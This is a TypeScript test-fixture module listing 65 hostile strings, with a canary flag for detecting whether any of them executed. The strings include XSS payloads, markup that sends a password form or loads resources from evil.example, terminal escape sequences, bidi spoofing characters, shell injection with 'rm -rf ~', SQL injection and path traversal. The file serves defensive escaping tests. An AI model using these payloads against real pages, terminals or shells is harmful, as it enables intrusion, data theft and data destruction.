/** @module Strings that others choose and that want to be more than text. */

/** Set by whatever managed to run; no page may ever have it. */
export const CANARY = "hostile_text_ran";
const RUN = `globalThis.${CANARY}=1`;

/** Markup that would run or load something, ways out of attributes, scripts and templates. */
const MARKUP = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img data-hostile src=x onerror=${RUN}>`,
  `"><img data-hostile src=x onerror=${RUN}>`,
  `'><svg data-hostile onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<iframe data-hostile srcdoc="<script>${RUN}</script>">`,
  `<a data-hostile href="javascript:${RUN}">click me</a>`,
  `javascript:${RUN}//`,
  `<style data-hostile>*{display:none}</style>`,
  `<link data-hostile rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<base href=//evil.example/>`,
  `<form data-hostile action=//evil.example><input name=password></form>`,
  `<details open ontoggle=${RUN}>`,
  `<body onload=${RUN}>`,
  `<math><mtext></form><form><mglyph><style></math><img data-hostile src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img data-hostile src=x onerror=${RUN}>">`,
  `<template data-hostile><b>x</b></template>`,
  `<!-- a comment that does not end`,
  `--><b data-hostile>out of a comment</b>`,
  `<!--frsh:island:Toasts:0-->`,
  `<!--/frsh:island-->`,
  `]]><b data-hostile>`,
  `" onmouseover="${RUN}" x="`,
  `' autofocus onfocus='${RUN}`,
  `\`-${RUN}-\``,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `&lt;script&gt;&#x3c;b&#x3e;&amp;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}`,
  `__proto__`,
  `constructor`,
  `null`,
];

/** Orders to a terminal, letters that nobody sees, and letters that turn others round. */
const UNSEEN = [
  "\x1b[31mred\x1b[0m",
  "\x1b[2J\x1b[H cleared",
  "\x1b]0;a new title\x07",
  "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
  "\x1b]52;c;ZXZpbA==\x07",
  "bell\x07 back\x08space",
  "one\rtwo",
  "form\x0cfeed\x0bvertical",
  "\x9b31m eight bit",
  "\u202egpj.exe",
  "\u2066isolated\u2069",
  "\u200f right to left mark",
  "zero\u200bwidth\u200djoin\ufeff",
  "line\u2028separator\u2029paragraph",
  "soft\u00adhyphen",
  "tag\u{e0041}\u{e0042}",
];

/** Plain text that only looks odd. */
const ODD = [
  "שלום עולם",
  "مرحبا بالعالم",
  "👩‍👩‍👧‍👦 family 🏴‍☠️",
  "Z̴̢͝a̷l̵g̶o̶ ̷t̸e̷x̴t̶",
  "a".repeat(200),
  "W".repeat(63) + "-end",
  "--password-command=touch pwned",
  "$(touch pwned) `touch pwned`; rm -rf ~ | cat &",
  "'; DROP TABLE hosts; --",
  "..\\..\\..\\windows\\system32",
  "../../../../etc/passwd",
];

/** All of them: 65, none with a comma, a NUL or spaces at its ends. */
export const HOSTILE: string[] = [...MARKUP, ...UNSEEN, ...ODD];

/** Those without control characters, which one-line fields refuse. */
export const PRINTABLE: string[] = HOSTILE.filter((text) => !/\p{Cc}/u.test(text));
